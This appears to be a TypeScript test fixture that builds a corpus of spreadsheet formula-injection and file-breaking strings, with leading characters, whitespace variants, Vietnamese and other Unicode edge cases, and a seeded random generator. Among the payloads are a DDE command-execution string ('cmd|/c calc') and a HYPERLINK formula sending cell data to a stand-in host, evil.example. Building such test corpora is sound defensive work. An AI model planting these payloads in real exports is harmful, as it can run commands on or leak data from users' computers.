/** The corpus of texts that a spreadsheet may run, or that break a file: what begins a formula, after what, and the rest. */
import { randomFrom } from './drafts.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '   ', '\n', '\r\n', '\t', '\u00a0', '\ufeff', ' \n '];
const AFTER = [
  '1+1',
  'cmd|/c calc!A0',
  'HYPERLINK("http://evil.example/?x="&A1;"xem")',
  'SUM(A1:A9)',
  '"quoted", with comma',
  '',
];
const PLAIN = [
  'Quầy 1',
  'Lao động – Thương binh – Xã hội',
  '"',
  '""',
  'a,b;c\td',
  'dòng 1\ndòng 2\r\ndòng 3',
  "'=1+1",
  '_x0041_ và _x000D_',
  '<b>&amp;</b>',
  'مرحبا بالعالم',
  '\u202Eabc\u202C',
  '😀 Ế Ậ Ữ',
  'x'.repeat(2000),
  '0912345678',
  '1e5',
  '12/11/2026',
  '   ',
  'TRUE',
];

/** The whole corpus, each text once. */
export const FORMULAS: readonly string[] = [
  ...BEFORE.flatMap((before) => STARTS.flatMap((start) => AFTER.map((after) => before + start + after))),
  ...PLAIN,
];

/** More of the kind, drawn by chance that is the same for the same seed. */
export function drawFormulas(count: number, seed: number): string[] {
  const random = randomFrom(seed);
  const signs = [...STARTS, ...Array.from('=+-@"\',;|()!$A1 \n'), 'ệ', '＝', '\u200b'];
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(random() * 12) }, () => signs[Math.floor(random() * signs.length)] ?? '').join(
      '',
    ),
  );
}
